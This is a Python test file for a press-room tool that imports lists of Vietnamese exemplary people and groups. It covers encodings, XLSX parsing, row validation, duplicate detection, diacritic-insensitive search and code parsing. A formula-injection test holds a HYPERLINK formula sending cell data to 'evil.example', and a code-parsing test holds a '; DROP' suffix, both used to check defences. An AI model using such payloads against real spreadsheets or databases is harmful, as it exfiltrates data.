"""The press room's pure part: reading organizers' files in every encoding and layout Vietnamese
offices produce, checking rows, finding duplicates, folding text for search, exemplar codes."""

from __future__ import annotations

import codecs
import csv
import io
import zipfile

import pytest
from jinja2 import Environment

from services.publish.domain.exemplars import (
    ImportFileError,
    Term,
    csv_safe,
    dedupe_key,
    fold,
    format_code,
    paragraphs,
    parse_code,
    preview,
    search_terms,
    search_text,
    to_csv,
)
from tests.support.publish import (
    EXEMPLAR_HEADER,
    exemplar_row,
    exemplars_csv,
    exemplars_xlsx,
    to_cp1258,
)

THU = exemplar_row("Hoàng Văn Thụ")
MAI = exemplar_row("Lộc Thị Mai", "Trạm Y tế xã Tân Thanh", district="Văn Lãng", field="Y tế")
HTX = exemplar_row("Hợp tác xã Hồng Phong", "Xã Hồng Phong", kind="Tập thể", consent="Không")


def names(data: bytes) -> list[str]:
    return [str(r.values["name"]) for r in preview(data, {}).rows]


# --- encodings and delimiters -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "label"),
    [
        ("utf-8", "UTF-8"),
        ("utf-8-sig", "UTF-8 (BOM)"),
        ("utf-16", "UTF-16 LE"),
        ("cp1258", "Windows-1258"),
    ],
)
def test_each_encoding_is_detected_and_read_as_nfc(encoding: str, label: str) -> None:
    data = exemplars_csv([THU, MAI], encoding=encoding)
    if encoding == "cp1258":
        assert "Thụ".encode() not in data and b"Thu\xf2" in data  # "u" + combining dot below
    result = preview(data, {})
    assert result.encoding == label
    assert [r.values["name"] for r in result.rows] == ["Hoàng Văn Thụ", "Lộc Thị Mai"]
    assert result.rows[0].values["unit"] == "Trường PTDTBT Tiểu học Khánh Khê"  # NFC, like typed
    assert all(r.ok for r in result.rows)


def test_semicolons_as_vietnamese_excel_writes_them() -> None:
    data = exemplars_csv([THU, MAI], delimiter=";", encoding="utf-8-sig")
    result = preview(data, {})
    assert result.delimiter == ";"
    assert [r.values["district"] for r in result.rows] == ["Văn Quan", "Văn Lãng"]


def test_a_bom_that_lies_is_refused() -> None:
    with pytest.raises(ImportFileError, match="UTF-8"):
        preview(codecs.BOM_UTF8 + to_cp1258("Họ và tên,Thụ\n"), {})


def test_headers_match_without_case_or_diacritics_and_in_english() -> None:
    folded = ["HO VA TEN", "ca nhan / tap the", "don vi", "Cum thi dua", "huyen", "LINH VUC"]
    english = ["Achievements", "Contact", "Consent"]
    result = preview(exemplars_csv([THU], header=folded + english), {})
    assert result.rows[0].ok and result.rows[0].values["name"] == "Hoàng Văn Thụ"


def test_title_rows_above_the_header_and_unknown_columns() -> None:
    header = ["STT", *EXEMPLAR_HEADER, "Ghi chú riêng"]
    rows = [("1", *THU, "x"), ("2", *MAI, "")]
    text = "DANH SÁCH GƯƠNG ĐIỂN HÌNH NĂM 2026\n\n" + exemplars_csv(rows, header=header).decode()
    result = preview(text.encode(), {})
    assert result.header_line == 3
    assert result.ignored_columns == ("Ghi chú riêng",)  # STT is known and quietly skipped
    assert [r.line for r in result.rows] == [4, 5]  # the numbers a spreadsheet shows


# --- XLSX -------------------------------------------------------------------------------------


def test_xlsx_by_content_with_a_title_row() -> None:
    data = exemplars_xlsx([THU, HTX], title="Danh sách gương điển hình")
    result = preview(data, {})  # no name given: told apart by the zip signature
    assert result.format == "xlsx" and result.encoding == ""
    assert [(r.line, r.values["name"], r.values["kind"]) for r in result.rows] == [
        (3, "Hoàng Văn Thụ", "person"),
        (4, "Hợp tác xã Hồng Phong", "collective"),
    ]
    assert result.rows[1].values["consent"] is False


def test_a_formula_is_kept_as_text_never_run() -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    rows = [exemplar_row("Hoàng Văn Thụ", achievements=formula)]
    for data in (exemplars_xlsx(rows), exemplars_csv(rows)):
        row = preview(data, {}).rows[0]
        assert row.ok and row.values["achievements"] == formula
    # Shown in a page: escaped; written to a CSV: a quote first, so Excel shows it as text.
    page = Environment(autoescape=True).from_string("<p>{{ v }}</p>").render(v="<b>" + formula)
    assert "<b>" not in page and "&lt;b&gt;" in page
    exported = list(csv.reader(io.StringIO(to_csv(["Thành tích"], [[formula], ["@SUM(1)"]]))))
    assert exported[1] == ["'" + formula] and exported[2] == ["'@SUM(1)"]
    assert csv_safe("Hoàng Văn Thụ") == "Hoàng Văn Thụ"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "trống"),
        (b"   \r\n ", "trống"),
        (b"PK\x03\x04" + b"\x00" * 40, "hỏng"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".xls"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "không phải CSV"),
    ],
)
def test_broken_or_foreign_files_are_refused_clearly(data: bytes, message: str) -> None:
    with pytest.raises(ImportFileError, match=message):
        preview(data, {})


def test_a_zip_that_is_not_a_workbook() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    with pytest.raises(ImportFileError, match="không phải bảng tính XLSX"):
        preview(out.getvalue(), {})


def test_an_unclosed_quote_names_the_row() -> None:
    data = exemplars_csv([THU]) + b'"Lo\xcc\x82\xcc\x81c Thi Mai,Ca nhan\n'
    with pytest.raises(ImportFileError, match="dòng 3"):
        preview(data, {})


# --- columns ----------------------------------------------------------------------------------


def test_missing_columns_are_named_with_the_expected_and_found_ones() -> None:
    header = ["Họ và tên", "Cá nhân/Tập thể", "Đơn vị", "Thành tích", "Số điện thoại"]
    with pytest.raises(ImportFileError) as caught:
        preview(exemplars_csv([THU[:5]], header=header), {})
    error = caught.value
    assert error.message.startswith("Thiếu cột: Huyện/Thành phố, Lĩnh vực, Đồng ý công bố.")
    assert any(p.startswith("Các cột cần có: Họ và tên / Tên tập thể,") for p in error.problems)
    assert any("Số điện thoại" in p for p in error.problems)


def test_a_file_of_other_columns_has_no_header_row() -> None:
    data = "Mã hàng,Tên hàng,Số lượng\nA1,Bút bi,10\n".encode()
    with pytest.raises(ImportFileError) as caught:
        preview(data, {})
    assert "Không tìm thấy dòng tiêu đề" in caught.value.message
    assert any("Mã hàng, Tên hàng, Số lượng" in p for p in caught.value.problems)


def test_a_column_given_twice() -> None:
    header = [*EXEMPLAR_HEADER, "Đơn vị"]
    with pytest.raises(ImportFileError, match=r"hai lần.*Đơn vị"):
        preview(exemplars_csv([(*THU, "x")], header=header), {})


def test_header_only_and_too_many_rows() -> None:
    with pytest.raises(ImportFileError, match="không có gương điển hình nào"):
        preview(exemplars_csv([]), {})
    many = [exemplar_row(f"Người {i}") for i in range(5_001)]
    with pytest.raises(ImportFileError, match=r"5\.000 dòng"):
        preview(exemplars_csv(many), {})


# --- rows -------------------------------------------------------------------------------------


def test_every_bad_row_says_which_and_why() -> None:
    rows = [
        THU,
        exemplar_row(""),
        exemplar_row("Nông Văn Dền", unit="", achievements=""),
        exemplar_row("Vi Thị Hoa", kind="Hộ gia đình"),
        exemplar_row("Lăng Văn Tú", consent="Chưa hỏi"),
        exemplar_row("Hà Văn Tám", achievements="x" * 5_001),
        ("", "", "", "", "", "", "", "", ""),  # a blank row is skipped, not an error
        MAI,
    ]
    result = preview(exemplars_csv(rows), {})
    problems = {r.line: r.problems for r in result.rows}
    assert problems[2] == ()
    assert problems[3] == ("Dòng 3: thiếu tên / Row 3: name missing",)
    assert problems[4] == (
        "Dòng 4: thiếu đơn vị / Row 4: unit missing",
        "Dòng 4: thiếu thành tích / Row 4: achievements missing",
    )
    assert "Dòng 5: “Hộ gia đình” ở cột Cá nhân/Tập thể" in problems[5][0]
    assert "Dòng 6: “Chưa hỏi” ở cột Đồng ý công bố" in problems[6][0]
    assert problems[7][0].startswith("Dòng 7: Thành tích dài quá 5000 ký tự")
    assert 8 not in problems and problems[9] == ()
    assert [r.line for r in result.ok_rows] == [2, 9]


def test_cells_are_cleaned_single_lines_and_paragraphs_kept() -> None:
    row = exemplar_row(
        "  Hoàng   Văn\tThụ \x07",
        achievements="Năm 2024: cứu hai em nhỏ.\r\n\r\n\r\n\r\nNăm 2025: hiến đất làm đường.",
        consent="x",
    )
    values = preview(exemplars_csv([row]), {}).rows[0].values
    assert values["name"] == "Hoàng Văn Thụ"
    assert values["achievements"] == "Năm 2024: cứu hai em nhỏ.\n\nNăm 2025: hiến đất làm đường."
    assert values["consent"] is True
    assert paragraphs(str(values["achievements"])) == [
        "Năm 2024: cứu hai em nhỏ.",
        "Năm 2025: hiến đất làm đường.",
    ]


def test_duplicates_within_the_file_and_against_the_press_room() -> None:
    rows = [
        THU,
        MAI,
        exemplar_row("HOÀNG VĂN THỤ", "Trường PTDTBT tiểu học Khánh Khê"),  # same, other case
        exemplar_row("Hoang Van Thu", "Truong PTDTBT Tieu hoc Khanh Khe"),  # typed without marks
        exemplar_row("Hoàng Văn Thụ", "Đồn Biên phòng Chi Ma"),  # a namesake elsewhere: fine
    ]
    stored = {dedupe_key("Lộc Thị Mai", "Trạm Y tế xã Tân Thanh"): "GD-0042"}
    result = preview(exemplars_csv(rows), stored)
    problems = {r.line: r.problems for r in result.rows}
    assert problems[2] == () and problems[6] == ()
    assert problems[3] == (
        "Dòng 3: đã có trong Phòng báo chí (GD-0042, cùng tên và đơn vị) "
        "/ Row 3: already in the press room (GD-0042, same name and unit)",
    )
    assert problems[4][0].startswith("Dòng 4: trùng với dòng 2 (cùng tên và đơn vị)")
    assert problems[5][0].startswith("Dòng 5: trùng với dòng 2")


# --- search -----------------------------------------------------------------------------------


def test_folding_vietnamese() -> None:
    assert fold("Hoàng Văn Thụ") == "hoang van thu"
    assert fold("ĐỒNG  Đăng\u00a0") == "dong dang"
    assert fold("Thu\u0323") == "thu"  # a combining mark, as Windows-1258 writes it


def _finds(query: str, text: str) -> bool:
    """What the database does with LIKE '% term%' on the stored columns."""
    exact, folded = search_text([text])
    return all(f" {t.text}" in (folded if t.folded else exact) for t in search_terms(query))


def test_a_query_without_diacritics_finds_both_with_them_only_as_typed() -> None:
    assert _finds("hoang van thu", "Hoàng Văn Thụ")
    assert _finds("hoang van thu", "Hoàng Văn Thu")
    assert _finds("Thụ", "Hoàng Văn Thụ")
    assert not _finds("Thụ", "Hoàng Văn Thu")
    assert _finds("văn thu", "Hoàng Văn Thụ")  # "văn" as typed, "thu" with or without
    assert not _finds("Văn", "Hoàng Vân")
    assert _finds("Thu\u0323", "Hoàng Văn Thụ")  # decomposed input equals the composed letter
    assert not _finds("oang", "Hoàng Văn Thụ")  # words match from their start


def test_search_terms_and_patterns() -> None:
    assert search_terms("  Hoàng   van, THỤ! ") == [
        Term("hoàng", False),
        Term("van", True),
        Term("thụ", False),
    ]
    assert Term("a_b%", True).like_pattern() == "% a\\_b\\%%"
    assert len(search_terms("a " * 50)) == 8


def test_codes_are_short_and_forgiving() -> None:
    assert format_code(7) == "GD-0007" and format_code(12345) == "GD-12345"
    assert parse_code("gd-7") == parse_code(" GD 0007 ") == parse_code("GD0007") == "GD-0007"
    assert parse_code("GD-0000") is None and parse_code("Hoàng") is None
    assert parse_code("GD-0007; DROP") is None
